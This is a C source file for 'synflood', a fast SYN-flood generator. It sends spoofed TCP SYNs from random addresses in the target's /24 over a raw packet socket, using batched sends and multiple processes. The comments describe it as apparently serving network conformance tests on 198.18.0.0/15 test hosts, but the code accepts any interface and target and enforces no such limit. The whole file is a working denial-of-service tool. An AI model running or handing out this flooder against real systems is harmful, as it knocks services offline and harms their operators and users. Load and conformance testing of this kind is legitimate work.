/* synflood - send spoofed TCP SYNs as fast as the kernel takes them, for
 * the conformance cases syn_flood_fast and syn_flood_rounds: sources are
 * random hosts of the target's own /24 (on-link, so every answer needs
 * ARP), ports, IP IDs and sequence numbers random. Test hosts only
 * (198.18.0.0/15 namespaces).
 *
 * Fast because it does little per SYN: a send-only packet socket (it
 * receives nothing) that bypasses the qdisc, frames built once and
 * changed only in their varying fields, both checksums updated from
 * precomputed sums of the fixed fields, sendmmsg() of FLOOD_BATCH frames a
 * call, and PROCS sender processes at once. */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define FLOOD_BATCH 64
#define FRAME_LEN 54
#define MAX_PROCS 16

static const char usage[] =
    "usage: synflood IFACE SRC_MAC DST_MAC DST_IP DST_PORT COUNT SKIP1,SKIP2 "
    "[SEED [PROCS]]\n"
    "Send COUNT SYNs to DST_IP:DST_PORT from random hosts of DST_IP's /24\n"
    "(never host numbers SKIP1 or SKIP2: the real hosts), over PROCS sender\n"
    "processes (default 1, at most 16), and print \"COUNT SECONDS\".\n"
    "Needs root (a raw AF_PACKET socket).\n";

static int parse_mac(const char *s, uint8_t m[6])
{
    return sscanf(s, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &m[0], &m[1], &m[2],
                  &m[3], &m[4], &m[5]) == 6;
}

static void put16(uint8_t *p, uint32_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, v >> 16); put16(p + 2, v); }

/* One's-complement sum of n bytes (n even) as 16-bit big-endian words,
 * not folded. */
static uint32_t sum16(const uint8_t *p, int n)
{
    uint32_t s = 0;
    for (int i = 0; i + 1 < n; i += 2)
        s += (uint32_t)(p[i] << 8 | p[i + 1]);
    return s;
}

static uint16_t fold_not(uint32_t s)
{
    s = (s & 0xffff) + (s >> 16);
    s = (s & 0xffff) + (s >> 16);
    return (uint16_t)~s;
}

static uint64_t xorshift(uint64_t *x)
{
    *x ^= *x << 13;
    *x ^= *x >> 7;
    *x ^= *x << 17;
    return *x;
}

typedef struct flood {
    uint8_t hosts[256];
    unsigned nhosts;
    uint32_t net_hi;          /* bytes 3-4 of the source: (octet3 << 8) */
    uint32_t ip_base, tcp_base;
} flood;

/* The fixed frame and the sums of its fixed fields. */
static void frame_template(uint8_t *f, flood *fl, const uint8_t sm[6],
                           const uint8_t dm[6], uint32_t dst, uint32_t port)
{
    uint8_t *ip = f + 14, *t = ip + 20;
    memset(f, 0, FRAME_LEN);
    memcpy(f, dm, 6);
    memcpy(f + 6, sm, 6);
    put16(f + 12, 0x0800);
    ip[0] = 0x45;
    put16(ip + 2, 40);
    ip[8] = 64;
    ip[9] = 6;
    put16(ip + 12, dst >> 16);                  /* source /24 = dst's */
    put32(ip + 16, dst);
    put16(t + 2, port);
    t[12] = 5 << 4;
    t[13] = 0x02;                               /* SYN */
    put16(t + 14, 65535);
    /* varying: IP ID, source's low word, source port, sequence number */
    fl->net_hi = dst & 0xff00;
    fl->ip_base = sum16(ip, 20);
    fl->tcp_base = sum16(t, 20) + (dst >> 16) + (dst >> 16) + (dst & 0xffff) +
                   6 + 20;
}

static void frame_vary(uint8_t *f, const flood *fl, uint64_t *rng)
{
    uint8_t *ip = f + 14, *t = ip + 20;
    uint64_t r = xorshift(rng), r2 = xorshift(rng);
    uint32_t lo = fl->net_hi | fl->hosts[(uint32_t)r % fl->nhosts];
    uint32_t id = (uint32_t)(r >> 32) & 0xffff;
    uint32_t sport = 1024 + (uint32_t)(r >> 48) % 60000;
    uint32_t seq = (uint32_t)r2;
    put16(ip + 4, id);
    put16(ip + 14, lo);
    put16(ip + 10, fold_not(fl->ip_base + id + lo));
    put16(t, sport);
    put32(t + 4, seq);
    put16(t + 16, fold_not(fl->tcp_base + lo + sport + (seq >> 16) +
                           (seq & 0xffff)));
}

/* One sender: n SYNs. Returns 0 or 1 (error printed). */
static int sender(const char *ifname, const uint8_t *tmpl, const flood *fl,
                  const uint8_t dm[6], long n, uint64_t seed)
{
    int fd = socket(AF_PACKET, SOCK_RAW, 0);   /* 0: send only */
    struct sockaddr_ll a = {0};
    a.sll_family = AF_PACKET;
    a.sll_ifindex = (int)if_nametoindex(ifname);
    a.sll_halen = 6;
    memcpy(a.sll_addr, dm, 6);
    if (fd < 0 || !a.sll_ifindex) {
        fprintf(stderr, "synflood: cannot open a raw socket on %s: %s\n",
                ifname, strerror(errno));
        return 1;
    }
    int one = 1;
    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);
    static uint8_t frames[FLOOD_BATCH][FRAME_LEN];
    struct iovec iov[FLOOD_BATCH];
    struct mmsghdr msg[FLOOD_BATCH];
    for (int i = 0; i < FLOOD_BATCH; i++) {
        memcpy(frames[i], tmpl, FRAME_LEN);
        iov[i] = (struct iovec){frames[i], FRAME_LEN};
        msg[i] = (struct mmsghdr){.msg_hdr = {.msg_name = &a,
                                              .msg_namelen = sizeof a,
                                              .msg_iov = &iov[i],
                                              .msg_iovlen = 1}};
    }
    uint64_t rng = seed * 0x9E3779B97F4A7C15ull | 1;
    while (n > 0) {
        int k = n < FLOOD_BATCH ? (int)n : FLOOD_BATCH;
        for (int i = 0; i < k; i++)
            frame_vary(frames[i], fl, &rng);
        int done = 0;
        while (done < k) {
            int r = sendmmsg(fd, msg + done, (unsigned)(k - done), 0);
            if (r > 0)
                done += r;
            else if (r < 0 && errno != ENOBUFS && errno != EAGAIN &&
                     errno != EINTR) {
                fprintf(stderr, "synflood: send: %s\n", strerror(errno));
                return 1;
            }
        }
        n -= k;
    }
    return 0;
}

int main(int argc, char **argv)
{
    if (argc > 1 && (!strcmp(argv[1], "--help") || !strcmp(argv[1], "-h"))) {
        fputs(usage, stdout);
        return 0;
    }
    uint8_t sm[6], dm[6];
    struct in_addr dip;
    int skip1, skip2;
    if (argc < 8 || !parse_mac(argv[2], sm) || !parse_mac(argv[3], dm) ||
        !inet_aton(argv[4], &dip) ||
        sscanf(argv[7], "%d,%d", &skip1, &skip2) != 2) {
        fputs(usage, stderr);
        return 2;
    }
    uint32_t dst = ntohl(dip.s_addr), port = (uint32_t)atoi(argv[5]);
    long n = atol(argv[6]);
    unsigned seed = argc > 8 ? (unsigned)atoi(argv[8]) : 7u;
    int procs = argc > 9 ? atoi(argv[9]) : 1;
    if (n < 0 || procs < 1 || procs > MAX_PROCS) {
        fputs(usage, stderr);
        return 2;
    }
    flood fl = {.nhosts = 0};
    for (int h = 1; h < 255; h++)
        if (h != skip1 && h != skip2)
            fl.hosts[fl.nhosts++] = (uint8_t)h;
    uint8_t tmpl[FRAME_LEN];
    frame_template(tmpl, &fl, sm, dm, dst, port);

    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    pid_t kids[MAX_PROCS];
    int started = 0, rc = 0;
    for (; started < procs; started++) {
        long share = n / procs + (started < n % procs ? 1 : 0);
        pid_t p = fork();
        if (p == 0)
            _exit(sender(argv[1], tmpl, &fl, dm, share,
                         (uint64_t)seed * MAX_PROCS + (uint64_t)started));
        if (p < 0) {
            fprintf(stderr, "synflood: fork: %s\n", strerror(errno));
            rc = 1;
            break;
        }
        kids[started] = p;
    }
    for (int i = 0; i < started; i++) {
        int st;
        if (waitpid(kids[i], &st, 0) < 0 || !WIFEXITED(st) ||
            WEXITSTATUS(st) != 0)
            rc = 1;
    }
    clock_gettime(CLOCK_MONOTONIC, &t1);
    if (rc)
        return rc;
    printf("%ld %.3f\n", n, (double)(t1.tv_sec - t0.tv_sec) +
                                (double)(t1.tv_nsec - t0.tv_nsec) / 1e9);
    return 0;
}
